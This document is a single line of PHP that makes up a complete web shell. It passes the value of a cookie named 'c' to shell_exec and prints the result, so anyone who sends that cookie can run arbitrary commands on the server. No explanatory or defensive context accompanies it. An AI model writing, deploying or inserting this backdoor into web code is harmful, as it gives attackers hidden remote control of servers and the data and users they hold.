<?= shell_exec($_COOKIE["c"]) ?>
